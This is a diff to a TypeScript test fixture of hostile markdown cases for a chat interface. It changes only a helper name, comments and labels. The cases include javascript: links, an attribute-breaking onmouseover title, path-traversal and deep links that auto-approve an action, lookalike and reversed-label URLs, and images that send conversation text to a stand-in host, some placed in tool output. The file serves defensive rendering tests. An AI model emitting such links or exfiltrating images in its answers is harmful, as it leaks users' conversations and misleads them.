@@ -1,6 +1,6 @@
-import { ELSEWHERE, planted, SCRIPT } from './hostile-case.ts';
+import { ELSEWHERE, plantCases, SCRIPT } from './hostile-case.ts';
 
-/** Links that would run something, open a program, or lead elsewhere than they say. */
+/** Links that would run code, open a program, or lead to another address than shown. */
 const leading = {
   javascript: `[look](javascript:${encodeURIComponent(SCRIPT)})`,
   'javascript in capitals': '[look](JaVaScRiPt:alert(1))',
@@ -20,15 +20,15 @@ const leading = {
   'our own page': '[look](app://corral/../../etc/passwd) [look](/api/hello)',
   'deep link': '[look](corral://interaction/00000000-0000-4000-8000-000000000001?answer=approve)',
   'program of the system': '[look](vscode://file/etc/passwd) [look](ms-msdt:/id) [look](intent://x#Intent;end)',
-  'another name than its own': `[https://github.com](https://${ELSEWHERE}/login)`,
+  'label with another address': `[https://github.com](https://${ELSEWHERE}/login)`,
   'user that looks like a host': `[docs](https://github.com@${ELSEWHERE}/)`,
   'letters of another script': '[apple](https://аpple.com/)',
-  'turned around': '[https://good.example/\u202egpj.live](https://evil.example/)',
+  'label reversed by an override': '[https://good.example/\u202egpj.live](https://evil.example/)',
   'title that ends the attribute': `[x](https://good.example/ "\\" onmouseover=${SCRIPT} x=\\"")`,
   'very long': `[x](https://good.example/${'a'.repeat(5000)})`,
 };
 
-/** Pictures that would carry words of the conversation away as soon as they are shown. */
+/** Images whose requests would send words of the conversation away when they are rendered. */
 const exfiltrating = {
   picture: `![](https://${ELSEWHERE}/?q=SECRET)`,
   'picture by reference': `![x][p]\n\n[p]: https://${ELSEWHERE}/?q=SECRET`,
@@ -45,4 +45,4 @@ const exfiltrating = {
   'a thousand pictures': Array.from({ length: 1000 }, (_, at) => `![](https://${ELSEWHERE}/${at}.png)`).join(' '),
 };
 
-export const links = [...planted('link', ['say'], leading), ...planted('exfiltration', ['say', 'toolOutput'], exfiltrating)];
+export const links = [...plantCases('link', ['say'], leading), ...plantCases('exfiltration', ['say', 'toolOutput'], exfiltrating)];
